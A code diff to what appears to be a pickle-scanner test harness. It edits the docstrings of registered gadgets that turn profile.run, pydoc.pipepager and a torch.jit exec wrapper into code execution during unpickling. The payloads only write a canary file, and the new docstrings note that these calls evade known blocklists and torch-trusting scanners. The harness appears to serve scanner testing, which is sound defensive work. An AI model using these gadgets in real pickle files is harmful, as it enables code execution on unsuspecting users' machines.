@@ -115,14 +115,16 @@ def gadget_cprofile_run(path: Path, canary: Path) -> str:
 
 @REGISTRY.add("pickle")
 def gadget_profile_run(path: Path, canary: Path) -> str:
-    """``profile.run(source)``: the pure-Python profiler execs ``source`` too."""
+    """``profile.run(source)``: the pure-Python profiler execs ``source`` in ``__main__`` too,
+    and ``profile`` is in no module blocklist we know of."""
     _write(path, call(glob("profile", "run"), s(write_canary(canary))))
     return "profile.run"
 
 
 @REGISTRY.add("pickle")
 def gadget_pydoc_pipepager(path: Path, canary: Path) -> str:
-    """``pydoc.pipepager(text, cmd)`` pipes ``text`` into ``subprocess.Popen(cmd, shell=True)``."""
+    """``pydoc.pipepager(text, cmd)`` pipes ``text`` into ``subprocess.Popen(cmd, shell=True)``:
+    the help system's pager runs any shell command."""
     _write(path, call(glob("pydoc", "pipepager"), s(""), s(touch(canary))))
     return "pydoc.pipepager"
 
@@ -164,7 +166,8 @@ def gadget_pdb_run(path: Path, canary: Path) -> str:
 
 @REGISTRY.add("pickle")
 def gadget_jit_exec_wrapper(path: Path, canary: Path) -> str:
-    """``torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc)`` is ``exec``."""
+    """``torch.jit.unsupported_tensor_ops.execWrapper(code, glob, loc)`` is ``exec`` under a
+    torch name: a scanner that trusts ``torch.*`` runs it."""
     _write(path, call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), s(write_canary(canary)), EMPTY_DICT,
                       EMPTY_DICT))
     return "torch.jit.unsupported_tensor_ops.execWrapper"
